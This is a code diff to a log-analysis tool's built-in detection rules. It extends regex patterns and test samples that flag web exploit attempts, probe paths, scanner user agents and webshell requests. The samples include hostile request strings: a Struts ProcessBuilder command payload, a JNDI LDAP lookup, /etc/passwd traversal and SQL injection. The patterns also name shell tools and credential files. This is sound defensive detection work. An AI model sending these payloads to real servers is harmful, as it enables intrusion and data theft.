@@ -637,7 +637,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?File does not exist: (?<path>[^ ,]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php|public_html|~)[^ ,]{0,512}))(?:,|$)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?File does not exist: (?<path>[^ ,]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php|public_html|~|roundcube|roundcubemail|webmail|horde|squirrelmail|rainloop|phppgadmin|phpPgAdmin|pgadmin|adminer|sqlbuddy|webdb|typo3|zabbix)[^ ,]{0,512}))(?:,|$)",
         "category": [
           "Recon.Network"
         ],
@@ -651,6 +651,30 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "service": "http"
         },
         "samples": [
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.123] File does not exist: /var/www/html/roundcube",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.123"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:info] [pid 77] [client 192.0.2.124:3333] AH00128: File does not exist: /var/www/html/phppgadmin/index.php",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.124"
+                }
+              ]
+            }
+          },
           {
             "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.32] File does not exist: /var/www/phpmyadmin",
             "expect": {
@@ -3894,9 +3918,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.exploit-in-request",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services|\\(\\)(?:%20|\\+)\\{|%28%29(?:%20|\\+)%7[Bb]))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27|%22)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:redirect|redirectAction|action):(?:\\$\\{|%24%7[Bb])|java\\.lang\\.(?:ProcessBuilder|Runtime)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services|\\(\\)(?:%20|\\+)\\{|%28%29(?:%20|\\+)%7[Bb]))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -3909,6 +3936,58 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "service": "http"
         },
         "samples": [
+          {
+            "line": "198.51.100.91 - - [02/Mar/2024:11:11:11 +0000] \"GET /item.php?id=-1%22%20or%20%221%22=%221 HTTP/1.1\" 200 150 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.91"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "198.51.100.92 - - [02/Mar/2024:11:11:11 +0000] \"GET /login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()} HTTP/1.1\" 404 150 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.92"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Mar  2 11:11:11 web nginx: 198.51.100.93 - - [02/Mar/2024:11:11:11 +0000] \"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\" 200 150 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.93"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "Mar  2 11:11:11 web apache2[77]: 198.51.100.94 - - [02/Mar/2024:11:11:11 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" 400 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.94"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Mar  2 11:11:11 docker traefik[1]: 198.51.100.95 - - [02/Mar/2024:11:11:11 +0000] \"GET /index.php?id=1+UNION+SELECT+1 HTTP/1.1\" 404 19 \"-\" \"-\" 7 \"web@docker\" \"-\" 0ms",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.95"
+                }
+              ]
+            }
+          },
           {
             "line": "203.0.113.9 - - [12/Dec/2021:03:14:15 +0000] \"GET /?x=${jndi:ldap://198.51.100.1:1389/a} HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
             "expect": {
@@ -4157,7 +4236,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.exploit-in-headers",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) (?=[^\\n]{0,16384}?(?:\"(?<shellshock>\\(\\) \\{)|(?<payload>\\$\\{jndi:|\\$\\{\\$\\{)))",
         "category": [
@@ -4235,7 +4317,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.remote-file-inclusion",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?=(?:https?|ftp)(?:://|%3[Aa]%2[Ff]%2[Ff])[^ \"?&=]{1,1024}(?:\\?{1,2}|%3[Ff]|%00|\\.txt)(?:&[^ \"]{0,1024})? HTTP/)(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
@@ -4293,7 +4378,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.wordpress-login-failed",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?<path>/(?:[^ \"/]{1,64}/){0,4}wp-login\\.php) HTTP/\\d\\.\\d\" 200 ",
         "category": [
@@ -4332,7 +4420,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.basic-auth-failed",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} (?!- )(?<user>[^ ]{1,256}) \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 ",
         "category": [
@@ -4434,7 +4525,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.credentials-refused",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} - \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 (?=[^\\n]{0,16384}?\"(?:Authorization|Proxy-Authorization)\":\\[\")",
         "category": [
@@ -4478,7 +4572,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.login-failed",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?:(?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 |(?<path2>(?=[^ \"?]{0,1024}?(?:[Ll]og[-_]?[Ii]n|[Ll]ogon|[Ss]ign[-_]?[Ii]n|/auth|/session|/token|j_security_check|wp-login\\.php))[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 403 )",
         "category": [
@@ -4555,7 +4652,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.scanner-user-agent",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot|DataCha0s|commix/|\\(Hydra\\)|sqlninja|WebInspect|AppScan|httprint|WebShag|Grabber/|muieblackcat|Zollard|sysscan/|NetSystemsResearch|LeakIX|Keydrop|Mozilla/5\\.0 zgrab|Nikto/|dirb/))(?<ua>[^\"]{0,1024})\"",
         "category": [
@@ -4675,7 +4775,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.harvester-user-agent",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<bot>EmailCollector|EmailSiphon|EmailWolf|ExtractorPro|WebEMailExtrac|Atomic_Email_Hunter|CherryPicker|Crescent Internet ToolPak|Franklin Locator|NICErsPRO|WebBandit|Microsoft URL Control|Advanced Email Extractor|Indy Library|TrackBack/1\\.02))(?<ua>[^\"]{0,1024})\"",
         "category": [
@@ -4713,9 +4816,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.probe-path",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.|wp-content/|wp-includes/|wordpress/|\\.htaccess|\\.htpasswd|\\.vscode/|\\.idea/|\\.docker|server-status|jmx-console|invoker/|web-console|axis2|telescope|druid/|nacos/|hudson|remote/fgt_lang|api/jsonws|mgmt/tm/|dana-na/|\\+CSCOE\\+|cgi-bin/luci|Telerik\\.Web\\.UI|nmaplowercheck|evox/about|console/)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.|wp-content/|wp-includes/|wordpress/|\\.htaccess|\\.htpasswd|\\.vscode/|\\.idea/|\\.docker|server-status|jmx-console|invoker/|web-console|axis2|telescope|druid/|nacos/|hudson|remote/fgt_lang|api/jsonws|mgmt/tm/|dana-na/|\\+CSCOE\\+|cgi-bin/luci|Telerik\\.Web\\.UI|muieblackcat|roundcube/|webmail/|phppgadmin|pgadmin|adminer\\.php|nmaplowercheck|nice%20ports%2C/Tri%6Eity\\.txt%2ebak|evox/about|console/)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
         "category": [
           "Recon.Network"
         ],
@@ -4728,6 +4834,20 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "service": "http"
         },
         "samples": [
+          {
+            "line": "198.51.100.90 - - [02/Mar/2024:11:11:11 +0000] \"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\" 400 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.90"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
           {
             "line": "198.51.100.70 - - [02/Mar/2024:11:11:11 +0000] \"GET /.env HTTP/1.1\" 404 162 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
             "expect": {
@@ -4847,7 +4967,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.sensitive-file",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,6}/(?:\\.env(?:\\.[a-z]{1,10})?|\\.git/(?:config|HEAD|index)|\\.svn/entries|\\.htpasswd|\\.bash_history|\\.ssh/id_[a-z0-9]{2,10}|id_rsa|wp-config\\.php(?:\\.bak|\\.old|\\.save|\\.swp|\\.txt|~)|[A-Za-z0-9_.-]{0,64}\\.(?:sql|sql\\.gz|sql\\.zip))(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -4906,7 +5029,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.wordpress-user-enum",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/(?:[^ \"?/]{1,64}/){0,3}(?:\\?author=\\d{1,9}|(?:index\\.php)?\\?rest_route=/wp/v2/users|wp-json/wp/v2/users)[^ \"]{0,1024}) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -4950,7 +5076,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.script-not-found",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/[^ \"?]{0,2048}\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll)(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" 404 ",
         "category": [
@@ -5003,7 +5132,10 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.webshell-request",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,8}/(?:c99|c100|r57|r00t|wso|b374k|webshell|indoxploit|k2ll33d|sh3ll|priv8|0byte|alfa|alfashell|cmd|shell|xleet)\\.php[0-9]?(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -5052,14 +5184,17 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "id": "http-access.bad-request",
         "programs": [
           "http-access",
-          "haproxy-http"
+          "haproxy-http",
+          "nginx",
+          "apache",
+          "traefik"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d|(?:GET|HEAD|POST) https?://[^ \"]{1,2048} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?:(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d|(?:GET|HEAD|POST) https?://[^ \"]{1,2048} HTTP/\\d\\.\\d|(?!(?:GET|HEAD|POST|PUT|DELETE|OPTIONS|PATCH|TRACE|PROPFIND|PROPPATCH|MKCOL|COPY|MOVE|LOCK|UNLOCK|REPORT|SEARCH|MKCALENDAR|MKACTIVITY|CHECKOUT|MERGE|ACL|BIND|UNBIND|REBIND|LINK|UNLINK|PRI) )[A-Z][A-Z0-9_-]{1,29} [^ \"]{1,2048} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) |(?<request2>(?![A-Z]{3,12} [^ \"]{1,4096} HTTP/\\d\\.\\d\")(?!-\")[^\"]{1,2048})\" (?<status2>400) |(?<request3>[A-Z]{3,12} [^ \"]{1,4096} HTTP/\\d\\.\\d)\" (?<status3>400) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"-\")",
         "category": [
           "Recon.Network"
         ],
         "priority": "Low",
-        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy request (answered {status})",
+        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy request ({request}{request2}{request3} answered {status}{status2}{status3})",
         "source": {
           "address": "{ip}"
         },
@@ -5103,6 +5238,60 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "198.51.100.81 - - [02/Mar/2024:11:11:11 +0000] \"-\" 408 0 \"-\" \"-\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.83 - - [02/Mar/2024:11:11:11 +0000] \"MGLNDD_198.51.100.1_443\" 400 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.83"
+                }
+              ],
+              "Priority": "Low",
+              "Description": "HTTP scan from 198.51.100.83: not an HTTP request, or a proxy request (MGLNDD_198.51.100.1_443 answered 400)"
+            }
+          },
+          {
+            "line": "198.51.100.84 - - [02/Mar/2024:11:11:11 +0000] \"GET /\" 400 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.84"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.85 - - [02/Mar/2024:11:11:11 +0000] \"SSTP_DUPLEX_POST /sra_%7BBA195980-CD49-458b-9E23-C84EE0ADCD75%7D/ HTTP/1.1\" 405 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.85"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.86 - - [02/Mar/2024:11:11:11 +0000] \"GET / HTTP/1.1\" 400 150 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.86"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.87 - - [02/Mar/2024:11:11:11 +0000] \"GET / HTTP/1.1\" 400 150 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.88 - - [02/Mar/2024:11:11:11 +0000] \"PROPFIND /share/ HTTP/1.1\" 405 150 \"-\" \"Microsoft-WebDAV-MiniRedir/10.0.19045\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.89 - - [02/Mar/2024:11:11:11 +0000] \"-\" 400 0 \"-\" \"-\"",
             "expect": null
           }
         ]
@@ -5308,6 +5497,88 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,7})? [+-]\\d\\d:\\d\\d)\\] \\[[A-Z]{3}\\] (?:\\[\\d{1,6}\\] )?(?:[A-Za-z0-9_.`]{1,200}: )?",
           "time": "YYYY-MM-DD hh:mm:ss[.f] Z"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-joomla.yaml",
+    "rules": [
+      {
+        "id": "joomla.login-failed",
+        "programs": [
+          "joomla"
+        ],
+        "requires": "joomlafailure",
+        "pattern": "^(?:(?<ip>[0-9A-Fa-f:.]{2,45})\\t)?joomlafailure\\t(?<reason>[^\\t]{0,512})",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
